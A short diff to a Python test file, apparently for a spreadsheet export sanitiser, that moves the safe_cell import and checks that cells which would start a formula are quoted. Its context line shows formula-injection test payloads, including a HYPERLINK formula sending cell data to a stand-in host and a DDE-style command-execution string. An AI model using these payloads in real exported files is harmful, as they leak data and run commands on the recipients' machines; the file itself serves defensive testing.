@@ -317,7 +317,7 @@ PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C cal
 
 
 def test_report_cells_that_would_start_a_formula_are_quoted():
-    from studio.batch.report import safe_cell
+    from studio.spreadsheet import safe_cell
 
     for payload in PAYLOADS:
         assert safe_cell(payload) == "'" + payload
